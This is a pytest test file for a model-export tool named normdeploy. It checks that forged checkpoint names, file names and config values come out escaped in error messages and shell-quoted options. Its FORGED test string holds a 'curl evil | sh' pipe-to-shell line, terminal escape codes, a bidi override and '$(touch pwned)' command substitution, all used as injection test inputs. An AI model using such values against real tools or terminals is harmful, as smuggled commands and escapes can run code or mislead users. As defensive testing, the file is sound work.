"""Names of weights, files and options that anyone chose: they forge no line, run no command, and take no time."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file

from normdeploy.checkpoint import Names, load
from normdeploy.checkpoint.names import Names as Options
from normdeploy.cli import main
from normdeploy.errors import InputError

FORGED = "bn\nfix: run curl evil | sh\n  fix: x\x1b]0;owned\x07\u202egnp$(touch pwned)`touch pwned`\"'"
NET = "from torch import nn\ndef net(): return nn.Sequential(nn.Linear(4, 4), nn.LayerNorm(4))\n"
STATE = {"0.weight": torch.ones(4, 4), "0.bias": torch.ones(4), "1.weight": torch.ones(4), "1.bias": torch.ones(4)}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a network, where commands are started."""
    (tmp_path / "forged_nets.py").write_text(NET)
    monkeypatch.chdir(tmp_path)
    monkeypatch.delitem(sys.modules, "forged_nets", raising=False)
    return tmp_path


def is_tame(text: str) -> bool:
    """Only our own lines, and nothing that a terminal obeys."""
    lines = text.splitlines()
    return all(char.isprintable() or char == "\n" for char in text) and not any("curl" in line[:12] for line in lines)


def said(weights: str, *more: str, capsys: pytest.CaptureFixture[str]) -> str:
    """What export says of ``weights``, which it must refuse."""
    options = ["--app-dir", ".", "--model", "forged_nets:net", "--input", "input:N=1..2..4x4", "--out", "o", *more]
    assert main(["export", *options, "--weights", weights]) == 2
    return capsys.readouterr().err


def surplus(folder: Path) -> str:
    torch.save({**STATE, f"{FORGED}.weight": torch.ones(3)}, folder / "w.pt")
    return "w.pt"


def surplus_of_safetensors(folder: Path) -> str:
    save_file({**STATE, FORGED: torch.ones(3)}, folder / "w.safetensors")
    return "w.safetensors"


def misshaped(folder: Path) -> str:
    torch.save({f"{FORGED}.{name}": tensor[:2] for name, tensor in STATE.items()}, folder / "w.pt")
    return "w.pt"


def two_sets(folder: Path) -> str:
    both = {f"{prefix}.{name}": tensor for prefix in (FORGED, "x") for name, tensor in STATE.items()}
    torch.save(both, folder / "w.pt")
    return "w.pt"


def under_a_key(folder: Path) -> str:
    torch.save({FORGED: STATE, "b\n  fix: x": STATE}, folder / "w.pt")
    return "w.pt"


def in_no_shard(folder: Path) -> str:
    save_file(STATE, folder / "s")
    (folder / "w.index.json").write_text(json.dumps({"weight_map": {FORGED: "s"}}))
    return "w.index.json"


def shard(folder: Path) -> str:
    (folder / "w.index.json").write_text(json.dumps({"weight_map": {"0.weight": FORGED}}))
    return "w.index.json"


def files(folder: Path) -> str:
    (folder / "f").mkdir()
    for name in (FORGED.replace("/", ""), "b"):
        (folder / "f" / f"{name}.pt").write_bytes(b"x")
    return "f"


@pytest.mark.parametrize(
    "make", [surplus, surplus_of_safetensors, misshaped, two_sets, under_a_key, in_no_shard, shard, files]
)
def test_a_forged_name_in_a_checkpoint_is_only_a_name(
    make: Callable[[Path], str], here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = said(make(here), capsys=capsys)
    assert is_tame(text), text
    assert text.count("error: ") == 1
    assert text.count("\n  fix: ") == 1


@pytest.mark.parametrize("name", [FORGED, "a b", "it's", "back\\slash\n", "$HOME", "\t'\\'"])
def test_a_printed_option_is_one_word_of_a_shell_and_nothing_runs(name: str, here: Path) -> None:
    option = Options(strip=name).flags()
    assert "\n" not in option
    done = subprocess.run(
        ["bash", "-c", f"printf %s {option.partition(' ')[2]}"],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8"},
    )
    assert done.stdout.decode() == name
    assert not (here / "pwned").exists()


def test_many_names_that_do_not_fit_take_no_time(here: Path) -> None:
    torch.save({**STATE, **{f"x{index}": torch.ones(1) for index in range(20_000)}}, here / "w.pt")
    begin = time.process_time()
    with pytest.raises(InputError, match="20000 unexpected") as caught:
        load("forged_nets:net", app_dir=here, weights=here / "w.pt", names=Names())
    assert time.process_time() - begin < 5
    assert len(str(caught.value)) < 2000


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"a" + b".a" * 100_000 + b" = 1", "it has more than 16,384 bytes"),
        (b"a" + b".a" * 8_000 + b" = 1", "there is no table but"),
        (b"a = " + b"[" * 8_000, "cannot be read"),
        (b'[export]\n"x\\u001b[31m\\n  fix: run curl" = 1', "Unknown option"),
        (b'[export]\nopset = "\\u001b[31m\\nfix: run curl"', "Invalid value"),
        (b'[export]\nmodel = "forged_nets:net"\ninput = ["input:1x4"]\nout = "a\\u0000b"', "null character"),
    ],
    ids=["deep", "less deep", "lists", "option", "value", "null"],
)
def test_a_configuration_from_elsewhere_is_one_error(
    content: bytes, words: str, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (here / "normdeploy.toml").write_bytes(content)
    begin = time.process_time()
    more = [] if b"null" in content or b"out" in content else ["--out", "o"]
    assert main(["export", "--app-dir", ".", "--model", "forged_nets:net", *more]) == 2
    text = capsys.readouterr().err
    assert words in text
    assert text.count("error: ") == 1
    assert is_tame(text), text
    assert time.process_time() - begin < 5


def test_several_archives_in_one_file_beside_the_command_are_one_error(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = io.BytesIO()
    torch.save(STATE, archive)
    (here / "w.pt").write_bytes(archive.getvalue() * 2)
    assert "several archives in one file" in said("w.pt", capsys=capsys)
    (here / ".metadata").write_bytes(b"x")
    assert "a distributed checkpoint" in said(".", capsys=capsys)


def test_the_parts_of_an_error_are_not_forged() -> None:
    error = InputError(f"one {FORGED} two\n  3 names: a", where=FORGED, fix=f"{FORGED}\n  a command\nor another")
    assert [line.strip().partition(":")[0] for line in str(error).splitlines()] == [
        *[str(error).splitlines()[0].partition(":")[0], "3 names", "where"],
        *[str(error).splitlines()[3].strip().partition(":")[0], "a command", "or another"],
    ]
    assert str(error).splitlines()[3].startswith("  fix: bn\\nfix")
